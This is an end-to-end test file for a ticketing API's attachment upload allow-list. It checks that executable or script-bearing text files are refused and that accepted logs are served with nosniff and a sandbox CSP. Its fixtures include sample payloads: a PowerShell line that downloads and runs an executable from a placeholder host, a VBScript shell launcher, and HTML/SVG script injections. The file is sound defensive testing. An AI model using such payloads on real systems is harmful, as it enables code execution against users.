import request from 'supertest';
import { createTestApp, type TestApp } from '../support/test-app';
import { person, ticket, tier, type Person } from '../support/world';

// Plain-text bytes used to be a log whatever they were called: a `.html` or `.svg` without a leading tag, or a `.bat`,
// `.hta` or `.ps1`, was stored and handed back under its name, one double-click from running.
describe('Upload allow-list for text (e2e)', () => {
  let t: TestApp;
  let customer: Person;
  let ticketId: string;

  beforeAll(async () => {
    t = await createTestApp();
    const admin = await person(t, 'admin');
    const agent = await person(t, 'agent');
    customer = await person(t, 'customer');
    const home = await tier(t, admin, 1, [agent]);
    ticketId = (await ticket(t, agent, { tierId: home.id, requesterId: customer.id })).id;
  });
  afterAll(() => t.close());

  const upload = (filename: string, data: string, contentType: string) =>
    request(t.url)
      .post(`/v1/tickets/${ticketId}/attachments`)
      .set('Authorization', customer.auth)
      .attach('file', Buffer.from(data), { filename, contentType });
  const rowCount = async () => Number((await t.dataSource.query('SELECT count(*) AS n FROM attachment'))[0].n);

  const active: [string, string][] = [
    ['page.html', 'hello\n<script>fetch("/v1/me")</script>\n'],
    ['image.svg', 'a drawing\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n'],
    ['app.hta', 'HTA\n<hta:application id="x"/><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script>\n'],
    ['run.bat', '@echo off\r\nstart calc.exe\r\n'],
    ['setup.ps1', 'Invoke-WebRequest https://example.invalid/x.exe -OutFile x.exe; ./x.exe\n'],
    // Windows drops trailing dots and spaces when saving a download: this would land as run.bat.
    ['run.bat.', '@echo off\r\nstart calc.exe\r\n'],
  ];
  const cases = active.flatMap(([filename, data]) => [
    { filename, data, contentType: 'text/plain' },
    { filename, data, contentType: 'application/octet-stream' },
  ]);

  it.each(cases)(
    'POST /tickets/:id/attachments refuses text named $filename (sent as $contentType): 415 naming file',
    async ({ filename, data, contentType }) => {
      const before = await rowCount();
      const res = await upload(filename, data, contentType);
      expect({ status: res.status, code: res.body.code, fields: res.body.errors?.map((e: { field: string }) => e.field) }).toEqual({
        status: 415,
        code: 'UNSUPPORTED_MEDIA_TYPE',
        fields: ['file'],
      });
      expect(await rowCount()).toBe(before);
    },
  );

  it.each([
    ['server.log', 'text/plain; charset=utf-8'],
    ['notes.txt', 'text/plain; charset=utf-8'],
    ['config.json', 'application/json'],
    ['events.ndjson', 'application/x-ndjson'],
    ['events.jsonl', 'application/x-ndjson'],
    ['session.har', 'application/json'],
    ['export.csv', 'text/csv; charset=utf-8'],
    ['SERVER.LOG', 'text/plain; charset=utf-8'],
    // nothing opens or runs a download without an extension; syslog-style names are common
    ['syslog', 'text/plain; charset=utf-8'],
  ])('POST /tickets/:id/attachments keeps %s as a log (%s)', async (filename, contentType) => {
    const data =
      filename.includes('json') || filename.endsWith('.har')
        ? '{"level":"error","msg":"boom"}\n'
        : 'a,b\n2026-01-01T00:00:00Z,ERROR boom\n';
    const res = await upload(filename, data, 'text/plain');
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ filename, kind: 'log', contentType });
  });

  it('GET /attachments/:id/content and /preview are a sandboxed download / plain text with nosniff and a sandbox CSP', async () => {
    const { body: created } = await upload('app.log', 'line 1\nline 2\n', 'text/plain').expect(201);
    const content = await request(t.url).get(`/v1/attachments/${created.id}/content`).set('Authorization', customer.auth).expect(200);
    expect(content.headers).toMatchObject({
      'content-disposition': 'attachment; filename=app.log',
      'x-content-type-options': 'nosniff',
      'content-security-policy': "default-src 'none'; sandbox",
    });
    const preview = await request(t.url).get(`/v1/attachments/${created.id}/preview`).set('Authorization', customer.auth).expect(200);
    expect(preview.text).toBe('line 1\nline 2');
    expect(preview.headers).toMatchObject({
      'content-type': 'text/plain; charset=utf-8',
      'x-content-type-options': 'nosniff',
      'content-security-policy': "default-src 'none'; sandbox",
    });
  });
});
